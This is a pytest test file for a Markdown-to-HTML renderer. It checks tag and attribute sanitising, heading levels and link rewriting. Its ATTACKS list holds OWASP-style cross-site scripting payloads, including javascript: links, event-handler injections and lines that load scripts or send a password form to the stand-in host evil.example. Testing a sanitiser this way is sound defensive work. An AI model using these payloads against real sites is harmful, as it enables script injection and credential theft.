import pytest

from spotlights.markdown import ATTRIBUTES, TAGS, render_markdown
from tests.spotlights.html import parse

# From OWASP's filter evasion cheat sheet and from what Markdown itself can do.
ATTACKS = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    '<svg onload="alert(1)"><animate onbegin=alert(1)>',
    '<iframe src="javascript:alert(1)"></iframe>',
    '<a href="javascript:alert(1)">x</a>',
    "<style>@import 'http://evil.example/x.css';</style>",
    '<math><mtext></form><form><mglyph><style></math><img src onerror="alert(1)">',
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<!-- --!><img src=x onerror=alert(1)> -->",
    '<base href="//evil.example/">',
    '<form action="//evil.example"><input name=password></form>',
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x]( javascript:alert(1))",
    "[x](\x01javascript:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](file:///etc/passwd)",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](data:image/png;base64,AAAA)",
    '[x](http://example.org/"onmouseover="alert(1))',
    "[x](http://example.org '\" onmouseover=alert(1) x=\"')",
    "<javascript:alert(1)>",
    "![x](javascript:alert(1))",
    "![x](https://evil.example/pixel.png)",
    '![<img src=x onerror="alert(1)">](x)',
    '![x"onerror=alert(1)](y)',
    "[x]: javascript:alert(1)\n\n[x]",
    '```"><script>alert(1)</script>\nx\n```',
    "`<script>alert(1)</script>`",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    '# <a id="main" name="cookie">x</a>',
]


def elements_of(html: str) -> list:
    return [element for element in parse(html).iter() if element.tag != "page"]


@pytest.mark.parametrize("attack", ATTACKS)
@pytest.mark.parametrize("base_url", [None, "https://site.example/lets-connect/x/"])
def test_attack_comes_out_harmless(attack, base_url):
    for element in elements_of(render_markdown(attack, base_url=base_url)):
        assert element.tag in TAGS
        assert set(element.attrib) <= ATTRIBUTES.get(element.tag, set())
        assert element.get("href", "http:").partition(":")[0].lower() in {"http", "https"}


@pytest.mark.parametrize(
    ("text", "html"),
    [
        ("Tom & Jerry <3", "<p>Tom &amp; Jerry &lt;3</p>"),
        ("**bold** and *italic*", "<p><strong>bold</strong> and <em>italic</em></p>"),
        ("[us](https://a.org/?a=1&b=2)", '<p><a href="https://a.org/?a=1&amp;b=2">us</a></p>'),
        ("[mail](mailto:a@b.org)", '<p><a href="mailto:a@b.org">mail</a></p>'),
        ("3. three", '<ol start="3">\n<li>three</li>\n</ol>'),
        ("📚 é ’", "<p>📚 é ’</p>"),
        ("![the *old* reading room](https://a.org/room.jpg)", "<p>the old reading room</p>"),
        ("![stacks <A> & <B>](x)", "<p>stacks &lt;A&gt; &amp; &lt;B&gt;</p>"),
        ("<b>as it stands</b>", "<p>&lt;b&gt;as it stands&lt;/b&gt;</p>"),
        ("", ""),
    ],
)
def test_markdown_becomes_html(text, html):
    assert render_markdown(text).strip() == html


@pytest.mark.parametrize(
    ("text", "levels"),
    [
        ("# a", ["h2"]),
        ("### a", ["h2"]),
        ("# a\n# b", ["h2", "h2"]),
        ("# a\n### b\n###### c\n## d\n# e", ["h2", "h3", "h4", "h3", "h2"]),
        ("### a\n# b\n## c", ["h2", "h2", "h3"]),
        ("a\n===\nb\n---", ["h2", "h3"]),
        ("# 1\n## 2\n### 3\n#### 4\n##### 5\n###### 6", ["h2", "h3", "h4", "h5", "h6", "h6"]),
    ],
)
def test_headings_start_below_the_title_and_leave_no_level_out(text, levels):
    assert [element.tag for element in elements_of(render_markdown(text))] == levels


def test_relative_links_become_absolute_only_when_asked():
    text = "[a](/programs/x/) [b](#top) [c](../y/) [d](https://a.org/)"

    here = [e.get("href") for e in elements_of(render_markdown(text)) if e.tag == "a"]
    away = [
        e.get("href")
        for e in elements_of(render_markdown(text, base_url="https://site.example/l/x/"))
        if e.tag == "a"
    ]

    assert here == ["/programs/x/", "#top", "../y/", "https://a.org/"]
    assert away == [
        "https://site.example/programs/x/",
        "https://site.example/l/x/#top",
        "https://site.example/l/y/",
        "https://a.org/",
    ]
